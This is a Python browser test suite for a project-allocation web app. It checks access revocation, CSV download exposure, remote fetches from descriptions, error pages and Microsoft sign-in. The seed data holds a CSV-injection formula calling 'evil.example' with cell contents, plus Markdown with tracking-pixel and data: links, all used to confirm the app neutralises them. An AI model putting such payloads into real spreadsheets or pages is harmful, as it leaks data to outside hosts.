"""Issue 12 in a real browser: what a page left open can still do, what a table lets you download, what a
description makes the browser fetch, what a failure shows, and Microsoft mode after a reload or from a
link. One Chromium; app servers per scenario. Skipped where Chromium is missing."""
from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from sqlalchemy import func, select, update

from allocator import db, migrate
from allocator.models import Cohort, User
from tests import factories as f
from tests.appserver import free_port
from tests.auth.test_tokens import CLIENT_ID, KEY, KID, TENANT, _jwks, claims, sign
from tests.load.browser import HAVE_CHROMIUM, NO_CHROMIUM, app_server, idle, served, sign_in

pytestmark = [pytest.mark.e2e, pytest.mark.skipif(not HAVE_CHROMIUM, reason=NO_CHROMIUM)]

ADMIN, STAFF, STUDENT = "coord@uni.example", "sup@uni.example", "ada.lovelace@example.ac.uk"
ADMIN_BUTTON = f"Casey Coordinator · {ADMIN}"
STUDENT_BUTTON = f"Ada Lovelace · {STUDENT}"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
TRACKER = "tracker.invalid"
DESCRIPTION = (f"Fly kites. ![pixel](http://{TRACKER}/p.png) and [a data link](data:text/html,<b>hi</b>) "
               f"and [a web link](https://example.org/kites).\n\n[ref]: http://{TRACKER}/ref.png\n\n![again][ref]")
FAKE_MSAL = Path(__file__).resolve().parent / "fake_msal"
CALM = "The service is unavailable right now."


def _seed(url: str) -> None:
    migrate.upgrade(url)
    with db.session(url) as s, s.begin():
        f.admin(s, email=ADMIN, name="Casey Coordinator")
        c = f.cohort(s, name="MEng 2026/27", phase="preferences")
        sup = f.staff(s, c, person=f.user(s, email=STAFF, name="Pat Supervisor"))
        f.student(s, c, person=f.user(s, email=STUDENT, name="Ada Lovelace"))
        f.project(s, c, sup, title=FORMULA, code="F1", capacity=1)
        f.project(s, c, sup, title="Kites", description=DESCRIPTION, code="K1", capacity=1)


@pytest.fixture(scope="module")
def site(tmp_path_factory, chromium_browser):
    workdir = tmp_path_factory.mktemp("boundaries")
    url = f"sqlite:///{workdir / 'app.db'}"
    _seed(url)
    with served(chromium_browser, url, workdir) as (base, context):
        yield url, base, context


def _open(page, name: str) -> None:
    page.locator(f'a[href$="{name}"]:visible').first.click()
    idle(page)


# --- 1. a coordinator whose right was removed clicks a button on a page left open -------------------------

def test_a_revoked_coordinator_cannot_create_a_cohort_from_an_open_page(site):
    url, base, context = site
    page = sign_in(context, base, ADMIN_BUTTON)
    _open(page, "admin_cohorts")
    page.get_by_label("Name").last.fill("Sneaky cohort")
    with db.session(url) as s, s.begin():
        before = s.scalar(select(func.count()).select_from(Cohort))
        s.execute(update(User).where(User.email == ADMIN).values(is_admin=False))
    try:
        page.get_by_role("button", name="Create cohort").click()
        idle(page)
        page.wait_for_timeout(500)
        idle(page)
        with db.session(url) as s:
            assert s.scalar(select(func.count()).select_from(Cohort)) == before
        assert "Sneaky cohort" not in page.locator("body").inner_text()
    finally:
        with db.session(url) as s, s.begin():
            s.execute(update(User).where(User.email == ADMIN).values(is_admin=True))
        page.close()


# --- 4. no table offers Streamlit's own (unneutralised) CSV download -------------------------------------

@pytest.mark.parametrize("name", ["admin_people", "admin_projects"])
def test_no_table_offers_its_own_csv_download(site, name):
    _, base, context = site
    page = sign_in(context, base, ADMIN_BUTTON)
    try:
        _open(page, name)
        tables = page.locator('[data-testid="stDataFrame"]:visible')
        tables.first.wait_for()
        for i in range(tables.count()):
            tables.nth(i).hover()
            page.wait_for_timeout(200)  # the toolbar appears on hover
            assert page.get_by_role("button", name=re.compile("Download", re.I)).count() == 0
            assert page.locator('[data-testid="stElementToolbarButton"]').filter(
                has_text=re.compile("download", re.I)).count() == 0
        assert page.locator('[data-testid="stElementToolbar"]').count() >= 1  # the toolbar itself is there
    finally:
        page.close()


# --- 5. a description fetches nothing remote and links only to web pages --------------------------------

def test_a_description_makes_the_browser_fetch_nothing(site):
    _, base, context = site
    page = sign_in(context, base, STUDENT_BUTTON)
    fetched: list[str] = []
    page.on("request", lambda r: fetched.append(r.url))
    try:
        _open(page, "student_projects")
        page.locator('[data-testid="stExpander"] summary').filter(has_text="Kites").first.click()
        page.get_by_text("Fly kites.").wait_for()
        page.wait_for_timeout(500)  # time for an image request, were there one
        links = page.locator('[data-testid="stExpander"] a').evaluate_all("as => as.map(a => a.href)")
        images = page.locator('[data-testid="stExpander"] img').evaluate_all("is => is.map(i => i.src)")
        assert [u for u in fetched if TRACKER in u] == []
        assert not [i for i in images if TRACKER in i]
        assert "https://example.org/kites" in links
        assert all(link.startswith(("http://", "https://")) for link in links), links  # no data:, no javascript:
        assert "a data link" in page.locator("body").inner_text()  # the words stay, the link goes
    finally:
        page.close()


# --- 3. failures show a calm page ------------------------------------------------------------------------

def _body_after_load(context, base: str) -> str:
    page = context.new_page()
    try:
        page.goto(base)
        page.locator('[data-testid="stHeading"], [data-testid="stAlert"]').first.wait_for()
        idle(page)
        return page.locator("body").inner_text()
    finally:
        page.close()


def test_a_database_outage_shows_the_calm_page_without_details(chromium_browser, tmp_path):
    port = free_port()
    url = f"postgresql+psycopg2://allocator@127.0.0.1:{port}/allocator_prod"
    with app_server(url, tmp_path) as base:
        context = chromium_browser.new_context()
        try:
            body = _body_after_load(context, base)
        finally:
            context.close()
    assert CALM in body and "Nothing you entered was lost" in body
    for detail in ("Traceback", "OperationalError", str(port), "allocator_prod", "psycopg2", ".py"):
        assert detail not in body


def test_a_settings_file_with_a_byte_order_mark_stops_the_app_with_one_line(chromium_browser, tmp_path):
    (tmp_path / "no-secrets.toml").write_bytes(b'\xef\xbb\xbfSMTP_HOST = "mail.uni.example"\n')
    url = f"sqlite:///{tmp_path / 'app.db'}"
    _seed(url)
    with app_server(url, tmp_path) as base:
        context = chromium_browser.new_context()
        try:
            body = _body_after_load(context, base)
        finally:
            context.close()
    assert "The app cannot start:" in body and "byte-order mark" in body and "no-secrets.toml" in body
    assert "Traceback" not in body and "Casey Coordinator" not in body


# --- 7. Microsoft mode: a reload and a deep link draw the page -------------------------------------------

@pytest.fixture(scope="module")
def microsoft_site(tmp_path_factory, chromium_browser):
    workdir = tmp_path_factory.mktemp("microsoft")
    url = f"sqlite:///{workdir / 'app.db'}"
    _seed(url)
    jwks = workdir / "jwks.json"
    jwks.write_text(json.dumps(_jwks((KID, KEY))))
    env = {"MS_CLIENT_ID": CLIENT_ID, "MS_TENANT_ID": TENANT, "FAKE_MSAL_JWKS": str(jwks),
           "PYTHONPATH": f"{FAKE_MSAL}:{Path(__file__).resolve().parents[2]}"}
    with app_server(url, workdir, env) as base:
        context = chromium_browser.new_context()
        try:
            yield base, context
        finally:
            context.close()
    db.dispose_all()


def _signed_in_with_microsoft(context, base: str):
    """A tab whose browser holds a Microsoft sign-in for Ada (what streamlit-msal stores after a sign-in)."""
    page = context.new_page()
    page.set_default_timeout(30_000)
    page.goto(base)
    idle(page)
    auth_data = {"idToken": sign(claims(preferred_username=STUDENT)), "account": {"username": STUDENT}}
    page.evaluate("([k, v]) => localStorage.setItem(k, v)", [CLIENT_ID, json.dumps(auth_data)])
    return page


@pytest.mark.parametrize("path, heading", [("student_projects", "Projects"), ("student_preferences", "My preferences")])
def test_microsoft_mode_draws_the_page_on_a_reload_and_from_a_link(microsoft_site, path, heading):
    base, context = microsoft_site
    page = _signed_in_with_microsoft(context, base)
    try:
        for visit in (lambda: page.goto(f"{base}/{path}"), page.reload):
            visit()
            title = page.locator("h1").filter(has_text=re.compile(f"^{re.escape(heading)}$"))
            title.first.wait_for(timeout=20_000)
            idle(page)
            assert "Ada Lovelace" in page.locator("body").inner_text()
    finally:
        page.close()
